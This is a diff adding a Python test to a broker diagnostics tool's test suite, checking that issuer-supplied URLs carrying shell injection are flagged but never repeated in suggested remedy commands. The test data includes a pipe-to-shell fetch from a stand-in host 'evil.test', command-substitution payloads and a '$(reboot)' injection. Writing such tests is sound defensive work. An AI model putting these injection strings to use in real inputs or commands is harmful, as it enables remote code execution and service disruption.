@@ -16,6 +16,7 @@ import trustme
 
 from brokerd.config.providers import read_provider
 from brokerd.config.tables import Recipes
+from brokerd.core.exchange import Response
 from brokerd.doctor import Finding, network
 from brokerd.edge.clock import SystemClock
 from brokerd.edge.dial import AddressInfo
@@ -238,6 +239,21 @@ async def test_the_metadata_of_a_public_issuer_leads_to_no_private_address(monke
         found = await asked(server.url, issuer=True)
         is_told(found, ("endpoint", "warning", "at an address that is not public", "brokerctl trust corp"))
         assert private.peers == []
+
+
+async def test_what_an_issuer_says_is_no_remedy() -> None:
+    named: list[str] = []
+    async with serving(naming(named)) as server:
+        named += [f"{server.url}; curl evil.test | sh", f"{server.url}/t"]
+        found = await asked(server.url, issuer=True)
+        named[:] = [server.url, f"{server.url}/t?$(curl${{IFS}}evil.test)"]
+        found += await asked(server.url, issuer=True)
+    assert ["evil" in each.found for each in found].count(True) >= 2
+    assert not [each for each in found if "evil" in (each.remedy or "")]
+    url = "https://idp.test/t?$(reboot)"
+    now = SystemClock().now()
+    failing = network.of_answer(Response(500, (), b"", now, now), url)
+    assert failing.remedy == f"curl -v '{url}'"
 
 
 async def test_a_place_besides_the_token_endpoint() -> None:
